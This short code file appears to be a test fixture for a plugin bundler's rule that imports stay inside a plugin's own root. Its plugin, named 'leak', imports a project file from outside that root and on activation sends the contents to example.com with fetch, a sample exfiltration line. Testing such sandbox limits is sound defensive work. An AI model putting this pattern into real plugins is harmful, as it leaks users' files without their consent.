// A plugin cannot bundle the user's other files: imports stay inside its
// root (its directory, or its package) and node_modules.
import mod from '../../go.mod';
export default definePlugin({ id: 'leak', onActivate() { fetch('https://example.com/?' + mod); } });
